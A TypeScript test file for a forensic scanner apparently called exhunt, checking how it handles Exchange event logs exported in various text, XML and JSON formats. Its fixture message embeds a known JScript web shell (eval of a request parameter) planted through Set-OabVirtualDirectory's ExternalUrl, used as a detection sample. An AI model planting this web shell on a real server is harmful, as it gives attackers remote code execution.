// Event logs a client saves in shapes exhunt does not read: `wevtutil qe /f:text`, Get-WinEvent's list and table
// views written to a file (Windows PowerShell 5.1's `>` writes UTF-16LE with a BOM), Get-EventLog's list view,
// Export-Clixml and ConvertTo-Json (whole records are read since). Each must be named in skipped with how to export
// the log again, never counted as a swept file in silence. Shapes: wevtutil's text renderer ("Event[0]:" then
// two-space "Log Name:" lines), PowerShell's default formats for EventLogRecord (list: TimeCreated, ProviderName,
// Id, Message; table grouped by "ProviderName:" with TimeCreated Id LevelDisplayName Message) and EventLogEntry
// (Index, EntryType, …), the CliXML schema namespace. The message is HelseCERT's 2021 Set-OabVirtualDirectory ExternalUrl shell.
import { afterAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ScanReport } from '../src/model.js';
import { unreadEventExport } from '../src/parsers/evtx/text-exports.js';
import { exhunt } from './support/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'exhunt-evtext-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const MSG =
  'Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>" -Identity "OAB (Default Web Site)".';
const crlf = (lines: string[]) => lines.join('\r\n');
const utf16 = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);

const EXPORTS: Record<string, Buffer> = {
  'wevtutil.txt': Buffer.from(
    crlf(['Event[0]:', '  Log Name: MSExchange Management', '  Source: MSExchange CmdletLogs', '  Date: 2021-03-03T06:49:53.772', '  Event ID: 1', '  Task: General', '  Level: Information', '  Opcode: Info', '  Keyword: Classic', '  User: N/A', '  User Name: N/A', '  Computer: MAIL01.corp.example.org', '  Description: ', MSG, '']),
  ),
  'list.txt': utf16(crlf(['', '', 'TimeCreated  : 3/3/2021 6:49:53 AM', 'ProviderName : MSExchange CmdletLogs', 'Id           : 1', `Message      : ${MSG}`, ''])),
  'table.txt': utf16(
    crlf(['', '   ProviderName: MSExchange CmdletLogs', '', 'TimeCreated                     Id LevelDisplayName Message', '-----------                     -- ---------------- -------', '3/3/2021 6:49:53 AM              1 Information      Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalU...', '']),
  ),
  'eventlog.txt': Buffer.from(crlf(['', '', 'Index              : 1234', 'EntryType          : Information', 'InstanceId         : 1', `Message            : ${MSG}`, ''])),
  'events.xml': Buffer.from(
    crlf(['<Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04">', '  <Obj RefId="0">', '    <TN RefId="0">', '      <T>System.Diagnostics.Eventing.Reader.EventLogRecord</T>', '      <T>System.Diagnostics.Eventing.Reader.EventRecord</T>', '      <T>System.Object</T>', '    </TN>', '']),
  ),
  'events.json': Buffer.from(crlf(['[', '    {', '        "Id":  1,', '        "RecordId":  77,', '        "ProviderName":  "MSExchange CmdletLogs",', '        "LogName":  "MSExchange Management",', '        "TimeCreated":  "\\/Date(1614754193772)\\/",', `        "Message":  ${JSON.stringify(MSG)}`, '    }', ']', ''])),
};

describe('event logs saved in shapes exhunt does not read', () => {
  it('are named in skipped with how to export them again; other text and JSON files are not', () => {
    const root = join(dir, 'client');
    mkdirSync(root, { recursive: true });
    for (const [name, data] of Object.entries(EXPORTS)) writeFileSync(join(root, name), data);
    writeFileSync(join(root, 'notes.txt'), 'Event[0] was the kick-off\r\nTimeCreated: see the ticket\r\n');
    writeFileSync(join(root, 'inventory.json'), '[{"Id": 1, "ProviderName": "x"}]');
    const out = join(dir, 'client.json');
    const r = exhunt(['scan', root, '--json', out, '--jobs', '1']);
    expect(r.stderr).toBe('');
    const h = (JSON.parse(readFileSync(out, 'utf8')) as ScanReport).hosts[0];
    const why = Object.fromEntries(h.skipped.map((s) => [s.path, s.reason]));
    expect(Object.keys(why).sort()).toEqual(Object.keys(EXPORTS).sort());
    expect(why['wevtutil.txt']).toMatch(/^event log saved as text \(wevtutil qe \/f:text\): not read; export the log again as \.evtx \(wevtutil epl/);
    expect(why['list.txt']).toMatch(/^events saved as a PowerShell list/);
    expect(why['eventlog.txt']).toMatch(/^events saved as a PowerShell list/);
    expect(why['table.txt']).toMatch(/^events saved as a PowerShell table/);
    expect(why['events.xml']).toMatch(/^events saved as PowerShell CliXML/);
    // ConvertTo-Json is read since (test/event-json-export.test.ts): the Set-OabVirtualDirectory web shell from the
    // cmdlet in its message (this one has no Properties).
    expect(why['events.json']).toMatch(/^read as events saved as JSON by PowerShell \(ConvertTo-Json\): 1 event\(s\)/);
    expect(h.findings.filter((f) => f.source.path === 'events.json').map((f) => [f.rule, f.time, f.source.record])).toEqual([['PL-25', '2021-03-03T06:49:53.7720000Z', 77]]);
  });

  it('reads the shape from the bytes: UTF-8 with a BOM, or UTF-16LE without one', () => {
    const list = crlf(['TimeCreated  : 3/3/2021 6:49:53 AM', 'ProviderName : MSExchange CmdletLogs', 'Id           : 1', 'Message      : x']);
    expect(unreadEventExport(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(list)]))).toMatch(/PowerShell list/);
    expect(unreadEventExport(Buffer.from(list, 'utf16le'))).toMatch(/PowerShell list/);
    expect(unreadEventExport(Buffer.from(`Level,Date and Time,Source,Event ID,Task Category\r\n`))).toBeNull();
  });
});
